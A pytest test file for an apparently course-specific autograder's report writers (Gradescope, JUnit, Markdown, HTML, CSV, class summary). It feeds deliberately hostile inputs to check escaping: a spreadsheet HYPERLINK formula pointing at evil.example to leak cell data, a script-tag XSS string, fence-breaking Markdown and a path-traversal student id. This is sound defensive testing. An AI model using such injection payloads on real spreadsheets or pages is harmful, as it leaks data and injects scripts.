"""grader.reports: every format from hand-built results, atomic writes, and the class report."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
import textwrap
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader import reports
from grader.classroom import report as classreport
from grader.reports import gradebook, gradescope, html, junit, markdown
from grader.grading.results import PARTS, SubmissionResult
from grader.grading.results import TestResult as Case  # not Test*: pytest would try to collect it
from grader.grading.static import to_review

EVIL_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"
FENCE_BREAK = "got:\n```\n</pre>\n````\n## I am a heading now\n~~~\n`inline` ``double``"
UNICODE = "attendu (3, 4) mais reçu (4, 3) — 漢字 🙂"


def base(student: str = "alice", **kw) -> SubmissionResult:
    defaults = dict(student=student, submission_hash="ab" * 32, grader_version="0.1.0",
                    torch_version="2.3.1+cpu", isolation="namespaces", memory_limit="cgroup v1",
                    memory_peak=3 << 29, seeds={"torch": 0, "numpy": 1, "random": 2}, started_at="2026-01-01T00:00:00Z",
                    duration=12.5)
    defaults.update(kw)
    return SubmissionResult(**defaults)


def full_marks(student: str = "alice") -> SubmissionResult:
    """One passing test per part, each worth the part's points: 100/100."""
    tests = [Case(f"{p}/test_ok", f"{p} works", p, pts, pts, "passed", duration=0.1)
             for p, pts in PARTS.items()]
    return base(student, tests=tests)


def partial(student: str = EVIL_ID) -> SubmissionResult:
    """Failures of every kind, hostile feedback, a hidden and an after-due-date test."""
    r = full_marks(student)
    r.tests[1] = Case("loss/test_mask", "padding is masked", "loss", 0, 14, "failed",
                            feedback=f"expected 2.5 but got 3.1\nyour output: {SCRIPT}\n{UNICODE}")
    r.tests[2] = Case("rnn/test_lstm", "LSTM step", "rnn", 10, 24, "failed",
                            feedback=FENCE_BREAK + "\x1b[31mred\x1b[0m\x00")
    r.tests[7] = Case("beam/test_beam", "beam search", "beam", 0, 10, "error",
                            feedback="RuntimeError: shape '[3, -1]' is invalid")
    r.tests[8] = Case("nucleus/test_p", "nucleus sampling", "nucleus", 0, 6, "timeout")
    r.tests.append(Case("gradients/test_secret", "secret clipping check", "gradients", 0, 3,
                              "failed", feedback="SECRET-HIDDEN-INPUT", visibility="hidden"))
    r.tests.append(Case("training/test_late", "late check", "training", 0, 2, "failed",
                              feedback="LATE-FEEDBACK", visibility="after_due_date"))
    r.message = "import warning in rnn.py: `x` ```"
    return r


def infra() -> SubmissionResult:
    return base("zoe", status="infra_error", message="worker could not start: EAGAIN")


# --- Gradescope -------------------------------------------------------------------------------

def test_gradescope_keys_types_and_scores_add_up():
    r = partial()
    doc = json.loads(gradescope.render(r))
    assert {"score", "execution_time", "output", "output_format", "visibility",
            "stdout_visibility", "tests", "extra_data"} <= set(doc)
    assert isinstance(doc["score"], float) and isinstance(doc["execution_time"], float)
    assert doc["score"] == pytest.approx(sum(t["score"] for t in doc["tests"]))
    assert doc["score"] == pytest.approx(r.score)
    for t in doc["tests"]:
        assert set(t) == {"score", "max_score", "status", "name", "number", "output",
                          "output_format", "tags", "visibility", "extra_data"}
        assert t["status"] in ("passed", "failed") and t["tags"][0] in PARTS
        assert isinstance(t["score"], float) and isinstance(t["max_score"], float)
    assert len({t["number"] for t in doc["tests"]}) == len(doc["tests"])
    by_id = {t["extra_data"]["id"]: t for t in doc["tests"]}
    assert by_id["gradients/test_secret"]["visibility"] == "hidden"
    assert by_id["training/test_late"]["visibility"] == "after_due_date"
    assert by_id["beam/test_beam"]["status"] == "failed"
    assert "\x1b" not in by_id["rnn/test_lstm"]["output"]
    assert UNICODE in by_id["loss/test_mask"]["output"]
    extra = doc["extra_data"]
    assert extra["grader_version"] == "0.1.0" and extra["torch_version"] == "2.3.1+cpu"
    assert extra["seeds"] == {"torch": 0, "numpy": 1, "random": 2}
    assert extra["isolation"] == "namespaces" and extra["submission_hash"] == "ab" * 32
    assert "ab" * 32 in doc["output"] and "namespaces" in doc["output"]
    assert extra["memory_limit"] == "cgroup v1" and extra["memory_peak"] == 3 << 29
    assert "memory limit: cgroup v1, peak 1.50 GiB" in doc["output"]


def test_record_without_memory_fields_still_loads():
    """A record cached before the memory limit was recorded reads as "not recorded"."""
    old = base().to_dict()
    del old["memory_limit"], old["memory_peak"]
    r = SubmissionResult.from_dict(old)
    assert (r.memory_limit, r.memory_peak) == ("", 0)
    assert "memory limit" not in json.loads(gradescope.render(r))["output"]


def test_gradescope_infra_error_is_not_a_zero():
    doc = json.loads(gradescope.render(infra()))
    assert "score" not in doc and doc["tests"] == []
    assert "not a grade" in doc["output"] and doc["extra_data"]["status"] == "infra_error"


# --- JUnit ------------------------------------------------------------------------------------

def test_junit_parses_with_right_counts():
    r = partial()
    root = ET.fromstring(junit.render(r).encode("utf-8"))
    failures, errors = root.findall(".//failure"), root.findall(".//error")
    assert len(failures) == sum(t.status in ("failed", "timeout") for t in r.tests) == 5
    assert len(errors) == sum(t.status == "error" for t in r.tests) == 1
    assert root.get("failures") == "5" and root.get("errors") == "1"
    assert [s.get("name") for s in root.findall("testsuite")] == list(r.parts())
    for suite in root.findall("testsuite"):
        for case in suite.findall("testcase"):
            assert case.get("classname") == suite.get("name")
            float(case.get("time"))
    props = {p.get("name"): p.get("value") for p in root.find("testsuite/properties")}
    assert props["grader_version"] == "0.1.0" and props["submission_hash"] == "ab" * 32
    text = ET.tostring(root, encoding="unicode")
    assert "<script" not in junit.render(r) and "&lt;script&gt;" in junit.render(r)
    loss = root.find(".//testcase[@name='loss/test_mask']/failure")
    assert SCRIPT in loss.text and UNICODE in loss.text  # escaped on disk, intact once parsed
    assert "SECRET-HIDDEN-INPUT" not in text and "test_secret" not in text
    assert "LATE-FEEDBACK" not in text
    late = ET.fromstring(junit.render(r, after_due_date=True).encode())
    assert "LATE-FEEDBACK" in ET.tostring(late, encoding="unicode")


def test_junit_infra_error_is_an_error():
    root = ET.fromstring(junit.render(infra()).encode())
    assert len(root.findall(".//error")) == 1 and root.get("errors") == "1"


# --- Markdown ---------------------------------------------------------------------------------

def fenced_blocks(md: str) -> list[str]:
    """Contents of backtick-fenced blocks, closed by CommonMark's rule (a run at least as long)."""
    blocks, lines, i = [], md.split("\n"), 0
    while i < len(lines):
        m = re.match(r"^ {0,3}(`{3,})", lines[i])
        if not m:
            i += 1
            continue
        n, j = len(m.group(1)), i + 1
        while j < len(lines) and not re.match(rf"^ {{0,3}}`{{{n},}}\s*$", lines[j]):
            j += 1
        blocks.append("\n".join(lines[i + 1:j]))
        i = j + 1
    return blocks


def outside_fences(md: str) -> str:
    out = md
    for block in fenced_blocks(md):
        out = out.replace(block, "")
    return out


def test_markdown_table_totals():
    r = partial()
    md = markdown.render(r)
    rows = [line.split("|")[1:-1] for line in md.splitlines()
            if re.match(r"^\| [a-z]+ \| [\d.]", line)]
    assert [c[0].strip() for c in rows] == list(r.parts())
    assert sum(float(c[1]) for c in rows) == pytest.approx(r.score)
    assert sum(float(c[2]) for c in rows) == pytest.approx(r.max_score)
    assert f"**{r.score:g}**" in md and f"## AMAL TME 5: {r.score:g} / {r.max_score:g}" in md
    assert "Hidden test suite" in md


def test_markdown_fence_in_feedback_cannot_close_the_block():
    md = markdown.render(partial())
    blocks = fenced_blocks(md)
    clean_break = FENCE_BREAK + "red\ufffd"  # ANSI escapes dropped, the NUL replaced (grader.grading.results.safe_text)
    assert clean_break in blocks  # the whole hostile feedback stayed inside one block
    assert any(SCRIPT in b for b in blocks)
    rest = outside_fences(md)
    assert "I am a heading" not in rest and "<script" not in rest.lower()
    assert "SECRET-HIDDEN-INPUT" not in md and "LATE-FEEDBACK" not in md
    assert "\\=HYPERLINK\\(" in md or "HYPERLINK\\(" in md  # student id escaped inline


def test_markdown_public_suite_says_hidden_tests_not_run():
    r = full_marks()
    r.suite = "public"
    md = markdown.render(r)
    assert "hidden tests were NOT run" in md and "All tests passed." in md
    assert "not graded" in markdown.render(infra())


# --- HTML -------------------------------------------------------------------------------------

def test_html_escapes_everything_student_controlled():
    page = html.render(partial())
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;/pre&gt;" in page and "\x1b" not in page and "\x00" not in page
    assert html.esc(EVIL_ID) in page  # student id escaped in title and footer
    assert page.count("<details") == len(partial().parts())
    assert "Content-Security-Policy" in page and not re.search(r"(src|href)=\"(?!data:|#)", page)
    assert "SECRET-HIDDEN-INPUT" not in page and UNICODE in page
    assert 'class="bar"' in page and page.count('<section class="cause"') == 4  # loss, rnn, beam, nucleus


def test_html_infra_and_public():
    assert "not graded" in html.render(infra())
    r = full_marks()
    r.suite = "public"
    assert "hidden tests were NOT run" in html.render(r)


# --- CSV --------------------------------------------------------------------------------------

def test_csv_round_trip_and_injection_neutralized():
    rows = list(csv.reader(io.StringIO(gradebook.render_many([full_marks(), partial(), infra()]))))
    header, *body = rows
    assert header == ["student", "submission_hash", "status", *PARTS, "total", "max",
                      "grader_version"]
    assert len(body) == 3 and all(len(row) == len(header) for row in body)
    alice, evil, zoe = (dict(zip(header, row)) for row in body)
    assert alice["total"] == "100" and alice["data"] == "12"
    assert evil["student"] == "'" + EVIL_ID and not evil["student"].startswith(("=", "+", "-", "@"))
    assert float(evil["total"]) == pytest.approx(partial().score)
    assert zoe["status"] == "infra_error" and zoe["total"] == "" and zoe["loss"] == ""
    assert gradebook.safe_cell("-1+2") == "'-1+2" and gradebook.safe_cell("bob") == "bob"
    assert gradebook.render(full_marks()).count("student,") == 1


# --- write_results, render_table -------------------------------------------------------------

def test_write_results_writes_all_files_atomically(tmp_path):
    r = partial()
    paths = reports.write_results(r, tmp_path / "out")
    names = sorted(p.name for p in paths)
    assert names == sorted(["results.json", "results.xml", "feedback.md", "feedback.html",
                            "grades.csv", "record.json"])
    assert sorted(os.listdir(tmp_path / "out")) == names  # no temporary file left behind
    back = SubmissionResult.from_json((tmp_path / "out/record.json").read_text())
    assert back.tests[2].feedback == FENCE_BREAK + "red\ufffd"  # read back, a record's text is made safe
    back.tests[2].feedback = r.tests[2].feedback
    assert back == r  # and nothing else changes
    json.loads((tmp_path / "out/results.json").read_text("utf-8"))
    ET.parse(tmp_path / "out/results.xml")
    only = reports.write_results(r, tmp_path / "md", formats=["markdown"])
    assert [p.name for p in only] == ["feedback.md", "record.json"]


def test_write_results_failure_keeps_previous_files(tmp_path, monkeypatch):
    out = tmp_path / "out"
    reports.write_results(full_marks(), out)
    before = (out / "results.json").read_bytes()

    def boom(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", boom)
    with pytest.raises(OSError):
        reports.write_results(partial(), out)
    monkeypatch.undo()
    assert (out / "results.json").read_bytes() == before
    assert not [n for n in os.listdir(out) if n.endswith(".tmp")]
    with pytest.raises(ValueError):
        reports.write_results(full_marks(), tmp_path / "bad", formats=["json", "pdf"])
    assert not (tmp_path / "bad").exists()


def test_render_table():
    table = reports.render_table(partial()).splitlines()
    assert table[0].split() == ["part", "points", "max"]
    assert table[-1].split() == ["total", f"{partial().score:g}", f"{partial().max_score:g}"]
    assert "status: infra_error (worker could not start: EAGAIN)" in reports.render_table(infra())


# --- class report -----------------------------------------------------------------------------

STARTER = textwrap.dedent('''
    import torch

    def masked_cross_entropy(logits, target, pad_ix=0):
        """logits: (T, B, V); target: (T, B) -> scalar"""
        raise NotImplementedError("mask the padding (~5 lines)")

    def pad_batch(seqs, pad_ix=0):
        """list of B lists of ints -> LongTensor (T, B)"""
        raise NotImplementedError("pad to the longest (~5 lines)")
''')
MINE = STARTER.replace('raise NotImplementedError("mask the padding (~5 lines)")', '''\
T, B, V = logits.shape
    losses = torch.nn.functional.cross_entropy(logits.reshape(T * B, V), target.reshape(-1),
                                               reduction="none")
    mask = (target.reshape(-1) != pad_ix).float()
    return (losses * mask).sum() / mask.sum()''').replace(
    'raise NotImplementedError("pad to the longest (~5 lines)")', '''\
longest = max(len(s) for s in seqs)
    out = torch.full((longest, len(seqs)), pad_ix, dtype=torch.long)
    for j, s in enumerate(seqs):
        out[:len(s), j] = torch.tensor(s, dtype=torch.long)
    return out''')
THEIRS = STARTER.replace('raise NotImplementedError("mask the padding (~5 lines)")', '''\
logp = torch.log_softmax(logits, dim=-1)
    nll = -logp.gather(2, target.unsqueeze(2)).squeeze(2)
    keep = target != pad_ix
    return nll[keep].mean()''').replace(
    'raise NotImplementedError("pad to the longest (~5 lines)")', '''\
padded = [s + [pad_ix] * (max(map(len, seqs)) - len(s)) for s in seqs]
    return torch.tensor(padded).t().contiguous()''')
COPY = (MINE.replace("losses", "per_tok").replace("mask =", "valid =").replace("mask)", "valid)")
        .replace("mask.sum", "valid.sum").replace("longest", "tmax").replace("out", "res")
        .replace("for j, s in", "# copied, promise not\n    for col, seq in")
        .replace("out[:len(s), j] = torch.tensor(s", "res[:len(seq), col] = torch.tensor(seq")
        .replace("[:len(s), j]", "[:len(seq), col]").replace("tensor(s,", "tensor(seq,"))


def class_results() -> list[SubmissionResult]:
    """Six students: full, two partial, a copier, a path-traversal id, an infra error."""
    bob = partial("bob")
    carol = partial("carol")
    carol.tests[0] = Case("data/test_ok", "data works", "data", 0, 12, "failed",
                                feedback="expected shape (7, 3) but got (3, 7)")
    dave = partial("../../etc/dave")
    dave.tests[0] = Case("data/test_ok", "data works", "data", 0, 12, "failed",
                               feedback="expected shape (5, 2) but got (2, 5)")
    return [full_marks("alice"), bob, carol, dave, partial(), infra()]


def test_class_report(tmp_path):
    results = class_results()
    sources = {"alice": {"loss.py": MINE}, "bob": {"loss.py": THEIRS},
               "carol": {"loss.py": COPY}, "../../etc/dave": {"loss.py": STARTER},
               EVIL_ID: {"loss.py": STARTER}}
    rep = classreport.write_class_report(results, tmp_path / "class", sources=sources,
                                         baseline=STARTER)
    # gradebook: header + one row per student, the injection neutralized
    rows = list(csv.reader(io.StringIO(rep.gradebook.read_text("utf-8"))))
    assert len(rows) == 1 + len(results) and rows[0][:3] == ["student", "submission_hash", "status"]
    assert "'" + EVIL_ID in [r[0] for r in rows]
    # the plots (matplotlib is installed here) embedded in the summary page; the one script is ours
    assert rep.plots_png is not None
    assert rep.plots_png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    page = rep.summary_html.read_text("utf-8")
    assert 'src="data:image/png;base64,' in page and page.lower().count("<script") == 1
    assert SCRIPT not in page and html.esc(SCRIPT) not in page  # feedback bodies are not on the TA page
    # pass rates, computed independently over graded results only
    summary = json.loads(rep.summary_json.read_text("utf-8"))
    expected: dict[str, list[int]] = {}
    for r in results:
        if r.status == "graded":
            for t in r.tests:
                expected.setdefault(t.name, [0, 0])
                expected[t.name][0] += t.status == "passed"
                expected[t.name][1] += 1
    got = {p["name"]: [p["passed"], p["total"]] for p in summary["pass_rates"]}
    assert got == expected and expected["data/test_ok"] == [3, 5]
    assert summary["graded"] == 5 and summary["students"] == 6
    assert summary["not_graded"] == [{"student": "zoe", "status": "infra_error",
                                      "message": "worker could not start: EAGAIN"}]
    assert sum(h["count"] for h in summary["histogram"]) == 5
    # per-part scores: the mean of each part over the graded results, computed here
    for part in summary["parts"]:
        scores = [r.parts()[part["part"]][0] for r in results if r.status == "graded"]
        assert part["mean"] == pytest.approx(sum(scores) / len(scores), abs=0.01)
        assert sum(h["count"] for h in part["histogram"]) == 5
    # failures by function at fault, with their students; messages as written (numbers kept)
    faults = {(f["function"], f["kind"]): f for f in summary["failures"]}
    data = faults[("(data part)", "wrong result")]
    assert set(data["students"]) == {"carol", "../../etc/dave"}
    assert {m["message"] for m in data["messages"]} == {"expected shape (7, 3) but got (3, 7)",
                                                        "expected shape (5, 2) but got (2, 5)"}
    assert "expected shape (7, 3) but got (3, 7)" in page and "(~#" not in page
    assert summary["not_attempted"] == []
    assert "No untouched stub in any graded submission." in page
    # similarity: the renamed copy, not the independent work nor the untouched stubs
    assert [(p.a, p.b) for p in rep.pairs] == [("alice", "carol")]
    # per-student feedback, inside out/feedback/ whatever the student id
    feedback_root = (tmp_path / "class" / "feedback").resolve()
    assert set(rep.feedback) == {r.student for r in results}
    for student, folder in rep.feedback.items():
        assert folder.resolve().parent == feedback_root
        assert (folder / "feedback.md").is_file() and (folder / "feedback.html").is_file()
        doc = json.loads((folder / "results.json").read_text("utf-8"))  # Gradescope's, beside the feedback
        result = next(r for r in results if r.student == student)
        assert doc.get("score") == (None if result.status == "infra_error" else result.score)
        assert sorted(t["extra_data"]["id"] for t in doc["tests"]) == (
            [] if result.status == "infra_error" else sorted(t.name for t in result.tests))
    assert "LATE-FEEDBACK" in (rep.feedback["bob"] / "feedback.md").read_text("utf-8")
    assert not [p for p in (tmp_path / "class").rglob("*.tmp")]


def test_class_report_without_matplotlib(tmp_path, monkeypatch):
    classreport.write_class_report(class_results(), tmp_path)
    assert (tmp_path / "plots.png").is_file()
    monkeypatch.setitem(sys.modules, "matplotlib.backends.backend_agg", None)
    rep = classreport.write_class_report(class_results(), tmp_path)
    assert rep.plots_png is None and not (tmp_path / "plots.png").exists()  # no stale plot left
    page = rep.summary_html.read_text("utf-8")
    assert "matplotlib is not installed" in page and "<img" not in page and rep.pairs == []
    assert page.count('class="spark"') == len(PARTS)  # each part's distribution, drawn in CSS
    assert "No near-identical pair of submissions." in page


# --- causes: each failure said once -----------------------------------------------------------

STUB_FEEDBACK = ('rnn.{cls}.forward: raised: NotImplementedError: Cell.forward: start from initial_state, '
                 'stack the h\'s (~7 lines)\nIn your code:\n  File "/submission/assignment/rnn.py", line 54, '
                 'in forward\n    raise NotImplementedError("Cell.forward: ...")')
CRASH_FEEDBACK = ('loss.masked_cross_entropy: raised: TypeError: unsupported operand\nIn your code:\n'
                  '  File "/tmp/grade-x1/submission/assignment/loss.py", line 12, in masked_cross_entropy\n'
                  '    return a + None')


def stubbed() -> SubmissionResult:
    """Six tests lost to one untouched ``Cell.forward``, two to a crash in the loss, one wrong value."""
    r = full_marks("erin")
    r.tests = [t for t in r.tests if t.part not in ("rnn", "loss")]
    r.tests += [Case(f"rnn/test_{i}[{cls}]", f"{cls} check {i}", "rnn", 0, 2, "failed",
                     feedback=STUB_FEEDBACK.format(cls=cls)) for i in range(2) for cls in ("RNN", "GRU", "LSTM")]
    r.tests += [Case(f"loss/test_crash{i}", f"loss check {i}", "loss", 0, 3, "failed", feedback=CRASH_FEEDBACK)
                for i in range(2)]
    r.tests.append(Case("loss/test_value", "loss value", "loss", 0, 8, "failed",
                        feedback="masked_cross_entropy(logits (7, 3, 10)): expected 2.5 but got 3.1\nHint: mask"))
    return r


def test_the_same_cause_is_said_once_in_html_and_markdown():
    r = stubbed()
    page, md = html.render(r), markdown.render(r)
    hint = "start from initial_state, stack the h&#x27;s (~7 lines)"
    assert page.count(hint) == 1 and page.count("<table class=\"stubs\">") == 1
    assert page.count("−12") == 1  # the stub's row: 6 tests of 2 points
    assert page.count("TypeError: unsupported operand") == 1  # two tests, one message block
    assert page.count('<section class="cause"') == 2  # masked_cross_entropy: error; ...: wrong result
    assert md.count("start from initial\\_state") == 1 and md.count("TypeError: unsupported operand") == 1
    assert "(~#" not in page and "2.5 but got 3.1" in page


def test_tracebacks_show_the_students_files_relative_to_their_package():
    page, md = html.render(stubbed()), markdown.render(stubbed())
    for text in (page, md):
        assert "/submission/" not in text and "/tmp/grade-" not in text
    assert 'File &quot;assignment/loss.py&quot;, line 12, in masked_cross_entropy' in page
    assert 'File "assignment/loss.py", line 12, in masked_cross_entropy' in md


def test_causes_read_the_function_at_fault():
    from grader.reports.causes import NOT_IMPLEMENTED, cause_of

    def cause(feedback, status="failed"):
        return cause_of(Case("data/t", "t", "data", 0, 1, status, feedback=feedback))

    assert cause(STUB_FEEDBACK.format(cls="GRU")) == cause(STUB_FEEDBACK.format(cls="LSTM"))
    assert cause(STUB_FEEDBACK.format(cls="GRU")).kind == NOT_IMPLEMENTED
    assert cause(STUB_FEEDBACK.format(cls="GRU")).function == "Cell.forward"
    public = cause("not implemented yet: Cell.forward: start from initial_state, stack the h's (~7 lines)")
    assert public == cause(STUB_FEEDBACK.format(cls="GRU"))  # grader check --out groups the same way
    assert (cause(CRASH_FEEDBACK).function, cause(CRASH_FEEDBACK).kind) == ("masked_cross_entropy", "error")
    assert cause("GRU.forward(x (6, 2, 3)): values differ").function == "GRU.forward"
    assert cause("len(TextDataset(text, {})): expected 3 but got 4").function == "TextDataset.__len__"
    assert cause("expected shape (7, 3) but got (3, 7)").function == "(data part)"
    assert cause("generate: did not finish within 30 s", "timeout").kind == "timeout"
    assert cause_of(Case("data/t", "t", "data", 1, 1, "passed")) is None


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=300), st.sampled_from(["failed", "error", "timeout"]))
def test_causes_and_pages_take_any_feedback(feedback, status):
    from grader.reports.causes import cause_of

    test = Case("rnn/t", "t", "rnn", 0, 2, status, feedback=feedback)
    cause = cause_of(test)
    assert cause is not None and len(cause.function) <= 90 and "\n" not in cause.function
    r = full_marks("x")
    r.tests.append(test)
    page = html.render(r)
    assert "<script" not in page.lower() and page.count("<section") <= 1
    markdown.render(r)


def test_summary_script_is_the_only_one_the_page_allows(tmp_path):
    import base64
    import hashlib

    rep = classreport.write_class_report(class_results(), tmp_path)
    page = rep.summary_html.read_text("utf-8")
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page).group(1)
    script = re.search(r"<script>(.*?)</script>", page, re.S).group(1)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in csp and "unsafe-inline'" not in csp.split("script-src")[1]
    assert html.esc(EVIL_ID) in page and EVIL_ID not in page


def test_class_report_lists_what_to_review(tmp_path):
    """Reflection on torch found by the static scan is in the record and in the class report, escaped."""
    results = class_results()
    bob = next(r for r in results if r.student == "bob")
    bob.review = to_review({"rnn.py": "import torch\n\n\nf = getattr(torch, 'lstm' + '_cell')\n",
                            "loss.py": "import importlib\nu = importlib.import_module('torch.nn.utils')\n"})
    assert bob.review == ["loss.py line 2: importlib.import_module('torch.nn.utils')",
                          "rnn.py line 4: getattr(torch, 'lstm' + '_cell')"]
    assert SubmissionResult.from_json(bob.to_json()).review == bob.review
    legacy = json.loads(bob.to_json())
    del legacy["review"]
    assert SubmissionResult.from_dict(legacy).review == []  # records written before the field still load
    rep = classreport.write_class_report(results, tmp_path)
    summary = json.loads(rep.summary_json.read_text("utf-8"))
    assert summary["to_review"] == [{"student": "bob", "findings": bob.review}]
    page = rep.summary_html.read_text("utf-8")
    assert "<h2>To review</h2>" in page and "getattr(torch, &#x27;lstm&#x27; + &#x27;_cell&#x27;)" in page
    assert "lstm" not in (rep.feedback["bob"] / "feedback.md").read_text("utf-8")  # for the TA, not the student
